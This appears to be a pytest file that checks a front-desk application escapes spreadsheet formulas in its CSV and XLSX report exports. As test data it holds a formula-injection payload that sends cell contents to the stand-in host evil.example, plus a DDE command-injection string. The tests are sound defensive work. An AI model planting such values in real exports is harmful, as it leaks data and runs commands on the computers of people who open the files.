"""Text typed at the desk reaches the report exports as text, never as a live formula."""

from __future__ import annotations

import csv
import io

import pytest

from frontdesk import clock as app_clock
from frontdesk import reception
from frontdesk.export_safety import csv_cell
from frontdesk.reports import export
from frontdesk.reports.access import SYSTEM
from frontdesk.reports.daily import build_daily

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


@pytest.fixture
def day_with_payload(rules_db, make_staff):
    desk = make_staff("desk", username="d1")
    v = reception.new_arrival(actor=desk, booked=False, first_visit=True)
    reception.leave(v.id, actor=desk, expected_version=v.version, reason=PAYLOAD)
    return build_daily(app_clock.today(), actor=SYSTEM)


def test_leave_reason_is_text_in_csv(day_with_payload):
    rows = list(csv.reader(io.StringIO(export.to_csv(day_with_payload).decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + PAYLOAD in cells  # the reason is there, marked as text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_leave_reason_is_a_string_cell_in_xlsx(day_with_payload, tmp_path):
    import openpyxl

    path = tmp_path / "r.xlsx"
    path.write_bytes(export.to_xlsx(day_with_payload))
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hits = [c for c in cells if c.value == PAYLOAD]
    assert hits and all(c.data_type == "s" for c in hits)  # shown as typed, never run


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-3", "-3"), ("+12.5%", "+12.5%"), ("王悦", "王悦"), ("", ""), (7, 7), (None, None),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected
